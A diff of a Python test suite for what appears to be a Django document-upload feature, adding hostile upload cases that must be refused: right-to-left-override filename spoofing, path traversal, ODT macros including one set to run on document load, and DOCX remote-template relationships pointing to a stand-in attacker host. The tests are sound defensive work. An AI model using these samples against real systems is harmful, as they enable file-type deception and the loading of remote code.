@@ -78,6 +78,40 @@ HOSTILE = [
     ("../../etc/verslag.pdf", files.pdf(), "pad"),
     ("..\\verslag.pdf", files.pdf(), "pad"),
     ("a" * 196 + ".pdf", files.pdf(), "te lang"),
+    ("foto\u202egpj.exe", files.pdf(), "leesrichting"),
+    ("verslag\u2067.pdf", files.pdf(), "leesrichting"),
+    ("brief.odt", files.odt_with({"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
+    ("brief.odt", files.odt_with({"Scripts/python/run.py": "import os"}), "macro"),
+    (
+        "brief.odt",
+        files.odt_with(
+            {},
+            content='<office:document-content xmlns:office="o" xmlns:script="s" '
+            'xmlns:xlink="x"><office:event-listeners><script:event-listener '
+            'script:event-name="dom:load" '
+            'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
+            'location=document"/></office:event-listeners></office:document-content>',
+        ),
+        "macro",
+    ),
+    (
+        "verslag.docx",
+        files.docx_with_relationship(
+            "word/_rels/settings.xml.rels",
+            files.RELATIONSHIPS + "attachedTemplate",
+            "https://aanvaller.example/sjabloon.dotm",
+        ),
+        "van buiten het bestand",
+    ),
+    (
+        "verslag.docx",
+        files.docx_with_relationship(
+            "word/_rels/settings.xml.rels",
+            files.RELATIONSHIPS + "attachedTemplate",
+            "file://aanvaller.example/share/sjabloon.dotm",
+        ),
+        "van buiten het bestand",
+    ),
 ]
 
 
@@ -197,3 +231,54 @@ def test_an_image_with_too_many_pixels_is_refused_before_decoding(
     assert message in refused.value.messages[0]
     assert time.monotonic() - started < 2
     assert files.stored_files(root) == []
+
+
+def test_a_word_file_with_a_hyperlink_is_allowed(root, case, cm):
+    """A link the reader clicks is the one external relationship an Office file may have."""
+    data = files.docx_with_relationship(
+        "word/_rels/footnotes.xml.rels", files.RELATIONSHIPS + "hyperlink", "https://example.org"
+    )
+    (document,) = upload(case, cm, files.upload("verslag.docx", data))
+    assert document.content_type.endswith("wordprocessingml.document")
+
+
+def test_an_odt_that_mentions_macros_in_its_text_is_allowed(root, case, cm):
+    data = files.odt_with(
+        {}, content="<office:document-content>Macro: geen</office:document-content>"
+    )
+    (document,) = upload(case, cm, files.upload("brief.odt", data))
+    assert document.content_type == "application/vnd.oasis.opendocument.text"
+
+
+@pytest.mark.parametrize("title", ["Foto\u202egpj.exe", "Verslag\u2066huisbezoek", "A\x07B"])
+def test_a_title_with_a_bidi_or_control_character_is_refused(root, case, cm, title):
+    with pytest.raises(ValidationError) as refused:
+        upload(case, cm, files.upload("a.pdf", files.pdf()), title=title)
+    assert "title" in refused.value.error_dict
+    assert not Document.objects.exists()
+
+
+def test_a_title_keeps_its_text_without_invisible_formatting(root, case, cm):
+    (document,) = upload(
+        case, cm, files.upload("a.pdf", files.pdf()), title=" Huis\u00adbezoek\tkeuken "
+    )
+    assert document.title == "Huisbezoek keuken"
+
+
+def test_the_upload_form_says_why_a_title_is_refused(client, root, case, cm):
+    from django.urls import reverse
+
+    client.force_login(cm)
+    url = reverse("documents:upload", kwargs={"reference": case.reference})
+    response = client.post(
+        url,
+        {
+            "files": [files.upload("a.pdf", files.pdf())],
+            "document_type": "overig",
+            "title": "Foto\u202egpj.exe",
+        },
+    )
+    assert response.status_code == 200
+    assert "leesrichting" in response.content.decode()
+    assert response.context["form"]["title"].value() == "Foto\u202egpj.exe"  # input kept
+    assert not Document.objects.exists()
